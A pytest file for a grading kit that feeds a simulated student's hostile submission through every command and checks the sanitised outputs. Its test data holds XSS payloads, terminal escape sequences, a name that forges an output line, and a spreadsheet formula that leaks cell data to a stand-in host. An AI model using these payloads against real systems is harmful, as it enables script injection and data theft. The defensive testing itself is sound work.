"""Student text is data in every output of the kit (``grader/foundations/student_text.py``).

A student, mallory, hands in through a Canvas download a notebook whose output holds terminal
escape sequences and a ``<script>``, whose markdown cell holds a ``<script>``, whose extra file
name holds an escape sequence, and whose answer raises an error that quotes both; her name in
Canvas's roster is ``=HYPERLINK(...)``. The class is collected, graded, summarised, given feedback
and exported by ``kitgrade`` as an instructor runs it; every output is then read back: the
terminal gets no control character, no page runs her markup, no spreadsheet cell is a formula.
"""

from __future__ import annotations

import csv
import os
import io
import re
import zipfile
from contextlib import redirect_stderr, redirect_stdout

import nbformat
import pytest

from course_snapshots import ASSIGNMENT, copy_course, make_course
from grader.cli import main as kitgrade
from grader.foundations.student_text import (CONTENT_SECURITY_POLICY, CSP_META, clean_html, for_spreadsheet, for_terminal,
                                 for_terminal_lines)

pytestmark = pytest.mark.timeout(600)

NOTEBOOK = f"{ASSIGNMENT}.ipynb"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SCRIPT = "<script>document.title='pwned'</script>"
MALLORY_SQUARE = (f"def square(x):\n    print({ESCAPES!r})\n    from IPython.display import HTML, display\n"
                  f"    display(HTML({(SCRIPT + '<img src=x onerror=alert(1)><b>bold</b>')!r}))\n    return x * x")
MALLORY_DERIVATIVE = f"def derivative(f, x, h=1e-6):\n    raise ValueError({(ESCAPES + SCRIPT)!r})"
PROGRESS = re.compile(r"\r\[[#.]+\] [^\r\x1b]*\x1b\[K")
ROSTER = ("Student,ID,SIS User ID,SIS Login ID,Section\n"
          '"Doe, Alice",111,S1,alice,A\n'
          f'"{FORMULA.replace(chr(34), chr(34) * 2)}, Mal",666,S6,mallory,@A\n')


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """The class collected, graded, summarised, given feedback and exported; each command's output."""
    tmp = tmp_path_factory.mktemp("student_text")
    course = copy_course(make_course(tmp / "template"), tmp / "course")
    with open(course / "nbgrader_config.py", "a") as handle:
        handle.write("\nc.KitGrade.workers = 1\n")
    release = nbformat.read(course / "release" / ASSIGNMENT / NOTEBOOK, as_version=4)
    source = nbformat.read(course / "source" / ASSIGNMENT / NOTEBOOK, as_version=4)
    solutions = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source.cells
                 if c.metadata.get("nbgrader", {}).get("solution")}

    def answered(answers: dict) -> bytes:
        nb = nbformat.from_dict(release)
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in solutions:
                cell.source = answers.get(grade_id, solutions[grade_id])
        return nbformat.writes(nb).encode()

    mallory = nbformat.reads(answered({"square": MALLORY_SQUARE, "derivative": MALLORY_DERIVATIVE}).decode(), 4)
    mallory.cells.append(nbformat.v4.new_markdown_cell(f"Notes {SCRIPT} <a href='javascript:alert(1)'>x</a>"))
    downloads = tmp / "submissions.zip"
    with zipfile.ZipFile(downloads, "w") as archive:
        archive.writestr(f"doealice_111_1_{NOTEBOOK}", answered({}))
        archive.writestr(f"hyperlinkmal_666_2_{NOTEBOOK}", nbformat.writes(mallory))
        archive.writestr(f"hyperlinkmal_666_3_=1+1{ESCAPES}extra.ipynb", answered({}))
        archive.writestr(f"hyperlinkmal_666_4_{ESCAPES}\nall graded.ipynb", answered({}))
        archive.writestr(f"{ESCAPES}notes.txt", b"not a submission")
    roster = tmp / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    outputs = {}
    for name, args in (("collect", [ASSIGNMENT, "--from", str(downloads), "--roster", str(roster)]),
                       ("autograde", [ASSIGNMENT]), ("summary", [ASSIGNMENT]), ("feedback", [ASSIGNMENT]),
                       ("export", ["--allow-manual-pending"])):
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            status = kitgrade([name, *args, "--course", str(course)])
        outputs[name] = (status, out.getvalue(), err.getvalue())
    return course, outputs


def test_no_control_character_reaches_the_terminal_from_any_command(done):
    _, outputs = done
    for name, (status, out, err) in outputs.items():
        text = PROGRESS.sub("", out + err)  # the progress line's own redraw is the kit's
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text), (name, text)
        assert "\nall graded" not in text, (name, text)  # a name cannot forge a line of the kit's
    collect_out = outputs["collect"][1]
    assert outputs["collect"][0] == 0 and "\\x1b]0;pwned\\x07" in collect_out  # shown, escaped
    assert "\\x0aall graded.ipynb: named like no LMS download" in collect_out
    summary_out = outputs["summary"][1]
    assert "\\x1b[2J" in summary_out and "mallory" in summary_out  # her error message, escaped


def test_her_markup_runs_nowhere_in_her_feedback(done):
    course, outputs = done
    assert outputs["feedback"][0] == 0, outputs["feedback"]
    page = (course / "feedback" / "mallory" / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")).read_text()
    head = page[page.index("<head>"):]
    assert head.startswith(f'<head><meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">')
    tags = _tags(page)
    assert not [attrs for tag, attrs in tags if tag == "script"]  # none: formulas are MathML, made with the page
    assert not [(tag, attrs) for tag, attrs in tags if any(name.startswith("on") for name in attrs)
                or any((value or "").strip().lower().startswith("javascript:") for value in attrs.values())
                or tag in ("iframe", "object", "embed", "base", "form")]
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in page  # shown as text, in output and markdown
    assert page.count("&lt;script&gt;document.title='pwned'&lt;/script&gt;") >= 2
    assert "<b>bold</b>" in page  # harmless markup still shows


def _tags(page: str) -> list[tuple[str, dict]]:
    """Every element of a page, as the browser's parser reads it: (tag, attributes)."""
    from html.parser import HTMLParser

    found = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Parser().feed(page)
    return found


def test_the_summary_page_shows_her_text_and_runs_nothing(done):
    course, _ = done
    page = (course / "reports" / f"{ASSIGNMENT}.html").read_text()
    assert f'content="{CONTENT_SECURITY_POLICY}"' in page.split("<title>")[0]
    assert not [tag for tag, _ in _tags(page) if tag == "script"] and "&lt;script&gt;document.title" in page


def test_no_exported_or_reported_cell_is_a_formula_or_an_escape(done):
    course, outputs = done
    assert outputs["export"][0] == 0, outputs["export"]
    for name in ("grades.csv", "grades_lms.csv"):
        rows = list(csv.reader(open(course / name, encoding="utf-8")))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                    or (c[:1] == "-" and not re.fullmatch(r"-?[\d.]+", c))], (name, rows)
        assert any(c.startswith("'=HYPERLINK") for c in cells), (name, rows)
    report = list(csv.reader(open(course / "reports" / f"{ASSIGNMENT}.csv", encoding="utf-8")))
    reasons = {row[0]: row[4] for row in report}
    assert reasons["mallory"].startswith("'=1+1\\x1b]0;pwned\\x07"), reasons
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", str(report))
    lms = {row[1]: row for row in csv.reader(open(course / "grades_lms.csv", encoding="utf-8"))}
    assert lms["666"][0] == f"'{FORMULA}, Mal" and lms["666"][4] == "'@A" and lms["111"][0] == "Doe, Alice"


# ---- each sanitiser on its own -------------------------------------------------------------------------
def test_the_terminal_sees_escapes_as_text():
    assert for_terminal("a\x1b[2Jb\nc\u202e") == "a\\x1b[2Jb\\x0ac\\u202e"
    assert for_terminal_lines("one\x1b[31m\ntwo\r\tthree") == "one\\x1b[31m\ntwo\\x0d\tthree"


def test_a_spreadsheet_cell_starting_like_a_formula_is_text():
    for cell in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert for_spreadsheet(cell) == "'" + cell
    assert [for_spreadsheet(c) for c in ("-1.5", "7", "alice", "", None)] == ["-1.5", "7", "alice", "", ""]


def test_cleaned_markup_keeps_what_teaches_and_drops_what_runs():
    cleaned = clean_html("<h2 id='x'>Title</h2><p><em>a</em></p><table><tr><td>1</td></tr></table>"
                         "<script>x()</script><img src='https://evil/' onerror='x()'><iframe src='/'></iframe>"
                         "<a href='javascript:x()'>l</a><img src='data:image/png;base64,AAAA'><style>*{}</style>")
    assert "<h2 id=\"x\">Title</h2><p><em>a</em></p><table><tbody><tr><td>1</td></tr></tbody></table>" in cleaned
    assert "<script" not in cleaned and "onerror" not in cleaned and "<iframe" not in cleaned and "<style" not in cleaned
    assert "javascript" not in cleaned and "https://evil" not in cleaned and 'src="data:image/png;base64,AAAA"' in cleaned



def test_the_feedback_pages_policy_stops_a_script_the_cleaning_missed_in_chromium(done, tmp_path):
    """The Content-Security-Policy is a second wall: a script put into her page by hand (as if the
    cleaning had missed it) does not run in a real browser, and the page still shows."""
    from browser_support import CHROMIUM_ARGS, IN_CI, find_chromium

    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        if IN_CI:
            raise
        pytest.skip("Playwright is not installed (pip install -e '.[test]')")
    course, _ = done
    page_text = (course / "feedback" / "mallory" / ASSIGNMENT / NOTEBOOK.replace(".ipynb", ".html")).read_text()
    missed = "<script>document.title = 'pwned'</script><img src=x onerror=\"document.title = 'pwned'\">"
    pages = {}
    for name, text in (("with", page_text), ("without", page_text.replace(CSP_META, ""))):
        pages[name] = tmp_path / f"{name}.html"
        pages[name].write_text(text.replace("<b>bold</b>", "<b>bold</b>" + missed, 1), encoding="utf-8")
    with sync_playwright() as playwright:
        executable = find_chromium()
        if executable is None and not os.path.exists(playwright.chromium.executable_path) and not IN_CI:
            pytest.skip("no Chromium found (apt-get install chromium, or set KIT_CHROMIUM=/path/to/chrome)")
        browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            titles, violations = {}, []
            for name, path in pages.items():
                page = browser.new_page()
                page.route("**/*", lambda route: route.abort() if not route.request.url.startswith("file:")
                           else route.continue_())  # no network
                page.on("console", lambda message: violations.append(message.text))
                page.goto(path.as_uri())
                page.wait_for_timeout(300)
                titles[name] = page.title()
                assert page.locator("b", has_text="bold").count() >= 1
            assert titles["without"] == "pwned"  # the check sees a script that runs ...
            assert titles["with"] != "pwned"  # ... and the policy stops it
            assert any("Content Security Policy" in text for text in violations), violations
        finally:
            browser.close()


def test_the_progress_line_redraws_itself_and_shows_any_other_control_escaped(capsys):
    from grader.foundations.progress import ProgressBar
    from grader.foundations.student_text import escaped_terminal

    with escaped_terminal():
        bar = ProgressBar(2, "graded", status=lambda: f"busy: {ESCAPES}")
        bar.advance()
        bar.close()
    err = capsys.readouterr().err
    assert err.startswith("\r[") and "\x1b[K" in err  # the bar's own redraw and erase-line
    assert "busy: \\x1b]0;pwned\\x07\\x1b[2J" in err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", PROGRESS.sub("", err).replace("\r", ""))
